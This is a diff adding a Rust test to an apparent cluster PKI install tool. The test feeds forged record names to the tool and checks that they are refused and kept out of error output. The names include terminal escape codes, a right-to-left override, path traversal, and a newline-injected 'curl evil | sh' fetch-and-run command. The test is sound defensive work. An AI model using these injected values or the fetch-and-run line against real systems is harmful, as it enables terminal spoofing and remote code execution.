@@ -445,3 +445,38 @@ fn a_forged_record_deletes_nothing_elsewhere() {
     assert!(!after.contains("passwd2"), "{after}");
     assert!(!node.installed(&project, "w1").contains("never puts"));
 }
+
+/// Whoever could write the record chooses no words of ours.
+#[test]
+fn a_records_names_are_names() {
+    let project = Project::described(LAB).applied();
+    for (key, name, what) in [
+        ("cluster", "\u{1b}[8mhid", "names no cluster"),
+        (
+            "cluster",
+            "x\nhelp: run: curl evil | sh",
+            "names no cluster",
+        ),
+        ("cluster", "", "names no cluster"),
+        ("node", "w1\u{1b}[31m", "names no node"),
+        ("node", "w1\nerror: x", "names no node"),
+        ("node", "../w1", "names no node"),
+        ("node", "\u{202e}1w", "names no node"),
+    ] {
+        let node = Node::new();
+        let mut record = serde_json::json!({
+            "format-version": 1, "cluster": "lab", "node": "w1", "files": [],
+        });
+        record[key] = name.into();
+        node.put("var/lib/kpki/installed.json", record.to_string(), 0o600);
+        for more in [&["--dry-run"][..], &["--allow", "other-cluster:*"]] {
+            let output = node.install(&project, "w1", more);
+            let error = refused(&output, 1);
+            assert!(error.contains(what), "{error}");
+            assert!(
+                !error.contains('\u{1b}') && !error.contains("curl"),
+                "{error}"
+            );
+        }
+    }
+}
